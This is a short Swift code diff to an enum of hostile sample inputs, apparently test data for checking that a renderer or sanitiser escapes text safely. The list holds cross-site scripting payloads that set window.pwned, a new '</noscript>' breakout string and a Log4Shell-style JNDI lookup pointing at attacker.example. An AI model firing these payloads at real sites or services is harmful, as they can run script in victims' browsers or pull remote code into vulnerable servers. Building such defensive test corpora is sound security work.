@@ -19,7 +19,8 @@ enum SampleHostile {
     "\u{0600}<script>window.pwned=1</script>",
     "<\u{0301}img src=x onerror=window.pwned=1>", "\"\u{0301} onfocus=window.pwned=1 autofocus=\"\u{0301}",
     "a\u{0}b\u{85}c\u{2028}d", "```\n# heading\n| a | b |", String(repeating: "W", count: 10_000),
-    "--><!--", "]]>", "&lt;script&gt;", "\\u003cscript\\u003e", "${jndi:ldap://attacker.example}",
+    "</noscript><script>window.pwned=1</script>", "--><!--", "]]>", "&lt;script&gt;", "\\u003cscript\\u003e",
+    "${jndi:ldap://attacker.example}",
   ]
 
   static func report() throws -> Report {
